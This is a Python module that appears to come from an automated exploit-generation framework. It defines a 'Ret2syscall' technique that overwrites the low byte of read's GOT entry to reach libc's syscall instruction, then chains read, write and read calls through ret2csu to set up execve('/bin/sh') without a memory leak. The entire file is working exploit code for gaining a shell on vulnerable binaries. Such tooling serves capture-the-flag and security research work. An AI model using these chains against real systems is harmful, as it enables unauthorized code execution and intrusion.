"""Leak-free ``execve("/bin/sh", 0, 0)`` built from ``read`` and ret2csu."""

from __future__ import annotations

import logging
from typing import List, Optional

from ..errors import ExpressionError, InvariantViolation
from ..expr import BaseOffset, ByteVector, Constant, Expr, RopSubchain
from ..exploit import Exploit
from ..utils.binary import checksec, find_syscall_in_function
from . import Technique, register_technique
from .ret2csu import Ret2csu

logger = logging.getLogger(__name__)

SYSCALL_GADGET = "syscall ; ret"
LIBC_READ = "__read"
SHELL_COMMAND = b"/bin/sh"
SHELL_COMMAND_SIZE = 59


@register_technique
class Ret2syscall(Technique):
    """Turns ``read@plt`` into a syscall gadget, then runs four syscalls.

    Without a ``syscall ; ret`` gadget, the first call reads one byte over the
    low byte of ``read``'s GOT entry so that it points at the ``syscall``
    instruction inside libc's ``__read``. Each call leaves the next syscall
    number in rax: read returns 1 (write), write(1, 0, 0) returns 0 (read),
    and reading 59 bytes returns 59 (execve).
    """

    name = "Ret2syscall"
    depends_on = ("Ret2csu",)

    def __init__(self, session):
        super().__init__(session)
        elf = self.exploit.elf
        self._syscall_gadget: Optional[Expr] = None

        address = self.exploit.resolve_gadget(elf, SYSCALL_GADGET)
        if address is not None:
            self.required_gadgets.append((elf, SYSCALL_GADGET))
            self._syscall_gadget = BaseOffset.var(elf, Exploit.to_var_name(SYSCALL_GADGET), address)
        elif not checksec(elf).full_relro and "read" in elf.symbols:
            self._syscall_gadget = BaseOffset.sym(elf, "read")

    def check_requirements(self) -> bool:
        if self._syscall_gadget is None or not super().check_requirements():
            return False

        ret2csu = self.session.get_technique(Ret2csu)
        if ret2csu is None or not ret2csu.check_requirements():
            logger.info("%s requires a usable %s", self.name, Ret2csu.name)
            return False

        libc = self.exploit.libc
        if "read" not in self.exploit.elf.got or libc is None or LIBC_READ not in libc.functions:
            logger.info("%s requires read@got and libc's %s", self.name, LIBC_READ)
            return False

        elf = self.exploit.elf
        try:
            BaseOffset.got(elf, "read")
            BaseOffset.bss(elf)
        except ExpressionError as exc:
            logger.info("%s cannot address its chain targets: %s", self.name, exc)
            return False
        return True

    def get_rop_subchains(self) -> List[RopSubchain]:
        elf = self.exploit.elf
        ret2csu = self.session.get_technique(Ret2csu)
        gadget = self._syscall_gadget

        # read(0, elf.got['read'], 1), setting rax to 1.
        part1 = ret2csu.get_rop_subchains(gadget, Constant(0), BaseOffset.got(elf, "read"), Constant(1))[0]

        # syscall<1>(1, 0, 0), setting rax to 0.
        part2 = ret2csu.get_rop_subchains(gadget, Constant(1), Constant(0), Constant(0))[0]

        # syscall<0>(0, elf.bss(), 59), reading the command into .bss.
        part3 = ret2csu.get_rop_subchains(
            gadget, Constant(0), BaseOffset.bss(elf), Constant(SHELL_COMMAND_SIZE)
        )[0]

        # syscall<59>(elf.bss(), 0, 0), i.e. execve(command, NULL, NULL).
        part4 = ret2csu.get_rop_subchains(gadget, BaseOffset.bss(elf), Constant(0), Constant(0))[0]

        ret1: RopSubchain = [Constant(0)]  # saved rbp
        ret1 += part1 + part2 + part3 + part4
        ret2: RopSubchain = [ByteVector(bytes([self.get_lsb_of_read_syscall()]))]
        ret3: RopSubchain = [ByteVector(SHELL_COMMAND).pad(SHELL_COMMAND_SIZE)]
        return [ret1, ret2, ret3]

    def get_lsb_of_read_syscall(self) -> int:
        libc = self.exploit.libc
        entry = libc.functions[LIBC_READ].address
        insn = find_syscall_in_function(libc, LIBC_READ)
        if insn is None:
            raise InvariantViolation(f"no syscall instruction in {LIBC_READ}")
        # Only the low byte of the GOT entry gets overwritten.
        if (insn.address & 0xFF00) != (entry & 0xFF00):
            raise InvariantViolation(
                f"syscall at {insn.address:#x} is not on the same 256-byte page as {LIBC_READ} ({entry:#x})"
            )
        return insn.address & 0xFF
